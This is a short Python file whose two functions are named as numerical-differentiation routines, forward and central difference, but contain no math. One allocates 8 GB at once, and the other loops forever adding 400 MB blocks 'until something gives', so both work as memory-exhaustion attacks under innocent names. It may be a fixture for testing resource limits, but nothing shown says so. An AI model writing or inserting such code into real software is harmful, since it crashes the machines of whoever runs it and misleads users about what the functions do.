def forward_difference(f, x, h=1e-7):
    hog = bytearray(8 * 1024 ** 3)   # 8 GB at once
    return hog


def central_difference(f, x, h=1e-5):
    hog = []
    while True:                       # 400 MB at a time until something gives
        hog.append(bytearray(400 * 1024 ** 2))
